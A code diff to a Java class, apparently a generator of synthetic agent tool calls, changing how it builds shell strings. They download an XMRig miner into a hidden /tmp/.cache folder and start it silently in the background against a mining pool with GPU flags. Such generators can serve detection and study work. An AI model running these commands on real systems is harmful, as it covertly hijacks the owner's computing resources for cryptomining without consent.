@@ -185,12 +185,12 @@ final class ToolCalls {
         String v = "6." + r.between(18, 22) + "." + r.between(0, 3);
         String via = r.chance(0.5) ? "curl -sL -o /tmp/.cache.tgz" : "wget -q -O /tmp/.cache.tgz";
         return via + " https://" + codeHostName(codeHost) + "/xmrig/xmrig/releases/download/v" + v + "/xmrig-" + v
-                + "-linux-static-x64.tar.gz && tar xzf /tmp/.cache.tgz -C /tmp";
+                + "-linux-static-x64.tar.gz && mkdir -p /tmp/.cache && tar xzf /tmp/.cache.tgz -C /tmp/.cache --strip-components=1";
     }
 
     /** The miner started in the background against its pool. */
     static String minerLaunch(Rng r, String pool, int port, String process, boolean tls) {
-        String binary = process.equals("xmrig") ? "/tmp/xmrig-6/xmrig" : "/tmp/.x/" + process;
+        String binary = "/tmp/.cache/" + process;
         return "nohup " + binary + " -o " + (tls ? "stratum+ssl://" : "stratum+tcp://") + pool + ":" + port + " -u 4"
                 + r.hex(40) + " -p x --cuda --donate-level 1 >/dev/null 2>&1 &";
     }
